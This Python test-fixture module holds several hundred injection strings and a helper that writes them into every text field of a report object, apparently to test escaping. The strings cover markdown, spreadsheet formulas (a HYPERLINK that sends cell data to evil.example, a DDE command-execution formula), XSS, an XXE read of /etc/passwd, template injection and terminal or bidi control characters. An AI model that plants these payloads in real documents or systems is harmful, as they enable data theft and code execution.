"""Texts that act in some format, and a report that holds one in every field that takes a text of others."""

import types
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from functools import cache
from typing import Any, Literal, Union, get_args, get_origin, get_type_hints

MARKDOWN = (
    "![x](https://evil.example/?q)",
    "![x][r]",
    "[r]: https://evil.example",
    "[click](javascript:alert(1))",
    "[a](<https://evil.example/a b>)",
    "[[wiki]]",
    "<https://evil.example>",
    "<me@evil.example>",
    "https://evil.example/a_b",
    "www.evil.example",
    "evil.example",
    "ftp://evil.example",
    "me@evil.example",
    "mailto:me@evil.example",
    "@everyone",
    "@org/team",
    "#123",
    "org/repo#1",
    "org/repo@0123abc",
    "!45",
    "GH-7",
    "JIRA-99",
    "fixes #12",
    "$5",
    "%6",
    "~label",
    '~"two words"',
    "&7",
    "*iteration:1",
    "^alert#1",
    "[vulnerability:1]",
    "0123abcdef0123abcdef0123abcdef0123abcdef",
    "abcdef1",
    "/close",
    "/assign @me",
    "`code` ![x](y)",
    "``a`b``",
    "```sh",
    "~~~",
    "$`x^2`$",
    "$$x$$",
    "$x$",
    "a | b | c",
    "a \\| b",
    "|---|---|",
    "# heading",
    "1. list",
    "1) list",
    "- list",
    "+ list",
    "* list",
    "- [x] task",
    "> quote",
    "---",
    "===",
    "***bold***",
    "__bold__",
    "~~gone~~",
    "a\\",
    "\\[x](y)",
    "&lt;img&gt;",
    "&#64;everyone",
    "&commat;everyone",
    ":smile:",
    "[^1]",
    "[^1]: note",
    "    code",
    "{{< include >}}",
    "{%raw%}",
    "[[_TOC_]]",
    "[TOC]",
    "<!-- x",
    "-->",
    "<details>",
)
SHEETS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " =1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    '"=1+1',
    "'=1+1",
    '" =1+1',
    "a;=1+1",
    'a";=1+1',
    "a,=1+1",
    'a",=1+1',
    "a|=1+1",
    "a;;@x",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><img src=//evil.example>',
    "' onmouseover='alert(1)",
    '" style="background:url(//evil.example)',
    "</title></svg></style>",
    "<style>@import '//evil.example'</style>",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e;",
    "<?php x ?>",
    "<a href=https://evil.example>",
    "javascript:alert(1)",
    "data:text/html,x",
    "{{7*7}}",
    "{% include 'x' %}",
    "{#",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
)
HIDDEN = (
    "\x1b[31mred",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;eA==\x07",
    "\x9b31m",
    "\x08\x08\x08PASS",
    "\rPASS",
    "a\nPASS",
    "a\x0bb",
    "a\x0cb",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "\u202epass\u202c",
    "\u2066x\u2069",
    "a\u200bb",
    "a\u00adb",
    "\ufeffa",
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udcff",
    "\U000e0041",
    "\x00",
    "\x7f",
    "e" + "\u0301" * 9,
)
CONFIGS = ('"\n[policy]\nuse = "internal"', '"""', "'''", "\\", 'a"b', "a = 1 # b", "]", '}\n"x', "\\u0000")
PAYLOADS = tuple(
    dict.fromkeys(
        text
        for core in (*MARKDOWN, *SHEETS, *MARKUP, *HIDDEN, *CONFIGS)
        for text in (core, f"income {core}", f"({core})")
    )
)
"""At least 300: each alone, behind a word, and between brackets."""


def filled(value: Any, text: str, hint: Any = None) -> Any:
    """The same with this text in every field that takes any text, as often as there is one."""
    if is_dataclass(value) and not isinstance(value, type):
        hints = _hints(type(value))
        return replace(value, **{f.name: filled(getattr(value, f.name), text, hints[f.name]) for f in fields(value)})
    if isinstance(value, str):
        return text if _takes_any_text(hint) else value
    if isinstance(value, Mapping):
        inner = get_args(hint)[1] if get_origin(hint) is not None and len(get_args(hint)) == 2 else Any
        changed = {key: filled(item, text, inner) for key, item in value.items()}
        takes_more = changed and (get_args(hint) or (None,))[0] is str
        return {**changed, text: next(iter(changed.values()))} if takes_more else changed
    if isinstance(value, tuple):
        inner = next((arg for arg in get_args(hint) if arg is not Ellipsis), Any)
        return tuple(filled(item, text, inner) for item in value)
    return value


@cache
def _hints(kind: type) -> dict[str, Any]:
    return get_type_hints(kind)


def _takes_any_text(hint: Any) -> bool:
    if get_origin(hint) in (Union, types.UnionType):
        return any(_takes_any_text(arg) for arg in get_args(hint))
    return hint in (str, Any) and get_origin(hint) is not Literal
